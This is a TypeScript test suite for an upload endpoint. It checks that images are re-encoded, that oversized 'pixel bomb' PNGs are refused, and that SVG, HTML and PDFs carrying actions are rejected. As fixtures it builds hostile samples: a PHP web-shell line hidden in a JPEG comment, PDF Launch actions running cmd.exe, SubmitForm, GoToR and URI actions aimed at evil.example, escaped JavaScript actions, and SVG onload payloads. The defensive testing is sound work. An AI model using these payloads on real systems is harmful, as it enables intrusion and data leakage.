import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_KEY, newOrder } from '../../../test/hostile/fixtures';
import { jpegWithComment, pdfWith } from '../../../test/hostile/hostile-files';
import { multipartBody } from '../../../test/hostile/multipart';
import type { Part } from '../../../test/hostile/multipart';
import { buildTestApp, describeEachDialect } from '../../../test/support/dialects';
import type { TestApp } from '../../../test/support/dialects';
import { findOrderByHash } from '../orders';
import { MAX_INPUT_PIXELS, reencodeImage } from './image-reencode';

/*
 * Active content in uploads, one kind per test: what a browser, PHP or a PDF reader would run, and
 * images built to exhaust memory. Images are re-encoded (what rides along is gone from the stored
 * file), PDFs with actions are refused, SVG and HTML never pass. Every file is built here.
 */

type Body = { result: boolean; data?: { id: string; size: number; mime: string }; error?: { code: string; message: string; fields?: Record<string, string> } };

const filesUnder = (dir: string): string[] =>
  !existsSync(dir) ? [] : readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));

/** A PNG chunk: length, type, data, CRC of type and data. */
function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A well-formed PNG whose header says `width` × `height` grey pixels; its data is a few rows (a few hundred bytes in all). */
function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  const rows = deflateSync(Buffer.alloc(Math.min(width + 1, 4096) * 4));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A PDF whose catalog opens `action` (an object of its own). */
const pdfOpening = (action: string): Buffer => pdfWith('/OpenAction 6 0 R', [action]);

/** A PDF 1.5 object stream holding `objects` (`N 0 <<…>>` text), under `filter` (FlateDecode by default). */
function pdfWithObjectStream(objects: string, { filter = '/FlateDecode', data }: { filter?: string; data?: Buffer } = {}): Buffer {
  const body = data ?? (filter === '/FlateDecode' ? deflateSync(Buffer.from(objects, 'latin1')) : Buffer.from(objects, 'latin1'));
  return pdfWith('/OpenAction 7 0 R', [`<< /Type /ObjStm /N 1 /First 6 /Filter ${filter} /Length ${body.length} >>\nstream\n${body.toString('latin1')}\nendstream`]);
}

const REFUSED_PDFS: ReadonlyArray<readonly [string, () => Buffer]> = [
  ['a JavaScript action', () => pdfOpening("<< /Type /Action /S /JavaScript /JS (app.alert('x')) >>")],
  ['a bare /JS key (a form field script)', () => pdfOpening('<< /AA << /K << /JS (this.submitForm()) >> >> >>')],
  ['a Launch action', () => pdfOpening('<< /S /Launch /F (cmd.exe) >>')],
  ['a SubmitForm action', () => pdfOpening('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>')],
  ['an ImportData action', () => pdfOpening('<< /S /ImportData /F (dati.fdf) >>')],
  ['a GoToR (remote go-to) action', () => pdfOpening('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>')],
  ['a GoToE (embedded go-to) action', () => pdfOpening('<< /S /GoToE /T << /R /C /N (a) >> >>')],
  ['a URI action', () => pdfOpening('<< /S /URI /URI (https://evil.example/track) >>')],
  ['a JavaScript action hidden in #xx escapes', () => pdfOpening('<< /S /J#61vaScript /J#53 (1) >>')],
  ['a URI action hidden in #xx escapes', () => pdfOpening('<< /S /#55#52#49 /#55RI (https://evil.example/) >>')],
  ['a Launch action inside a compressed object stream', () => pdfWithObjectStream('7 0 << /S /Launch /F (cmd.exe) >>')],
  ['an escaped JavaScript action inside a compressed object stream', () => pdfWithObjectStream('7 0 << /S /Java#53cript /JS (1) >>')],
  ['an object stream that does not inflate (unreadable, so unscannable)', () => pdfWithObjectStream('', { data: Buffer.from('not deflate data at all') })],
  ['an object stream under another filter (hex: unread, so unscannable)', () => pdfWithObjectStream('', { filter: '/ASCIIHexDecode', data: Buffer.from(`${Buffer.from('7 0 << /S /Launch >>').toString('hex')}>`) })],
  ['an encrypted PDF (unreadable, so unscannable)', () => Buffer.from(pdfWith().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 2 >>'), 'latin1')],
];

describeEachDialect('document-upload content safety', (dialect) => {
  let t: TestApp;
  beforeAll(async () => { t = await buildTestApp(dialect, { coverage: true }); });
  afterAll(async () => t?.close());

  const upload = async (filename: string, body: Buffer, contentType = 'application/octet-stream') => {
    const hash = await newOrder(t);
    const id = (await findOrderByHash(t.db, hash))!.id;
    const parts: Part[] = [{ name: 'api_key', body: API_KEY }, { name: 'file', filename, contentType, body }];
    const res = await t.app.inject({ method: 'POST', url: `/api/orders/${hash}/document-upload`, ...multipartBody(parts) });
    const stored = filesUnder(path.join(t.config.storageDir, id));
    return { status: res.statusCode, body: res.json() as Body, stored, id };
  };
  const storedRow = (mediaId: string) => t.db.selectFrom('medias').selectAll().where('id', '=', mediaId).executeTakeFirstOrThrow();

  describe('images are re-encoded', () => {
    it('drops EXIF metadata and comments: the stored file holds neither, and its recorded hash and size are its own', async () => {
      const photo = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#808080' } })
        .jpeg().withExif({ IFD0: { Copyright: 'segreto-exif-1234', Artist: 'Mario Rossi' } }).toBuffer();
      const withComment = jpegWithComment('commento-nascosto-5678');
      for (const [name, bytes, hidden] of [['foto.jpg', photo, 'segreto-exif-1234'], ['commento.jpg', withComment, 'commento-nascosto-5678']] as const) {
        expect(bytes.includes(hidden)).toBe(true);
        const { status, body, stored } = await upload(name, bytes);
        expect(status, JSON.stringify(body)).toBe(200);
        expect(stored).toHaveLength(1);
        const file = readFileSync(stored[0]!);
        expect(file.includes(hidden)).toBe(false);
        expect((await sharp(file).metadata()).exif).toBeUndefined();
        const row = await storedRow(body.data!.id);
        expect(row.size).toBe(file.length);
        expect(row.sha256).toBe(createHash('sha256').update(file).digest('hex'));
      }
    });

    it('keeps a portrait photo upright: the EXIF orientation is applied to the pixels before the metadata goes', async () => {
      const sideways = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#808080' } }).jpeg().withMetadata({ orientation: 6 }).toBuffer();
      const { status, stored } = await upload('ritratto.jpg', sideways);
      expect(status).toBe(200);
      const meta = await sharp(readFileSync(stored[0]!)).metadata();
      expect([meta.width, meta.height, meta.orientation]).toEqual([20, 40, undefined]);
    });

    it('re-encoding removes PHP hidden in a JPEG comment (the screen refuses that file first; this is the second line)', async () => {
      const hostile = jpegWithComment("<?php system($_GET['c']); ?>");
      const clean = await reencodeImage(hostile, 'jpg');
      expect(clean.includes('<?php')).toBe(false);
      expect((await sharp(clean).metadata()).format).toBe('jpeg');
      // Through the route the screen answers first: refused, nothing stored.
      const { status, stored } = await upload('foto.jpg', hostile, 'image/jpeg');
      expect(status).toBe(415);
      expect(stored).toEqual([]);
    });

    it(`refuses a pixel bomb (a 100000 × 100000 PNG of ${pngClaiming(100_000, 100_000).length} bytes) from its header, over ${MAX_INPUT_PIXELS / 1e6} megapixels: 422`, async () => {
      const bomb = pngClaiming(100_000, 100_000);
      const { status, body, stored } = await upload('scansione.png', bomb, 'image/png');
      expect(status).toBe(422);
      expect(body.error).toMatchObject({ code: 'validation_error', message: expect.stringMatching(/troppi pixel/) });
      expect(body.error!.fields!.file).toMatch(/50 megapixel/);
      expect(stored).toEqual([]);
      // Just under the limit is decoded (the limit refuses bombs, not big photos): a header of 7000 × 7000.
      expect((await upload('grande.png', pngClaiming(7000, 7000), 'image/png')).status).not.toBe(422);
    });
  });

  describe('SVG and HTML are never accepted', () => {
    it.each([
      ['an SVG with onload', 'foto.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>', 'image/svg+xml'],
      ['an SVG image with onerror, named .png', 'foto.png', '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>', 'image/png'],
      ['an SVG behind an XML declaration', 'foto.jpg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', 'image/jpeg'],
      ['an HTML page', 'carta.html', '<html><body onload="alert(1)">documento</body></html>', 'text/html'],
      ['an HTML page named .pdf', 'carta.pdf', '<!DOCTYPE html><p>documento</p>', 'application/pdf'],
    ])('refuses %s with 415, storing nothing', async (_what, name, text, type) => {
      const { status, body, stored } = await upload(name, Buffer.from(text), type);
      expect(status).toBe(415);
      expect(body.error!.message).toBe('Formato non ammesso: carica un file PDF, JPEG o PNG.');
      expect(stored).toEqual([]);
    });
  });

  describe('PDFs with actions are refused', () => {
    it.each(REFUSED_PDFS)('refuses a PDF with %s (415), storing nothing', async (_what, make) => {
      const { status, stored } = await upload('carta.pdf', make(), 'application/pdf');
      expect(status).toBe(415);
      expect(stored).toEqual([]);
    });

    it('accepts PDFs without actions, also with compressed object streams (pdf-lib writes them), stored as sent', async () => {
      const doc = await PDFDocument.create();
      doc.addPage([300, 400]).drawText('Carta di identita');
      const withObjectStreams = Buffer.from(await doc.save({ useObjectStreams: true }));
      expect(withObjectStreams.includes('/ObjStm')).toBe(true);
      for (const bytes of [withObjectStreams, pdfWith(), pdfWithObjectStream('7 0 << /Type /Annot /Subtype /Text /Contents (nota) >>')]) {
        const { status, body, stored } = await upload('carta.pdf', bytes, 'application/pdf');
        expect(status, JSON.stringify(body)).toBe(200);
        expect(readFileSync(stored[0]!).equals(bytes)).toBe(true);
      }
    });
  });
});
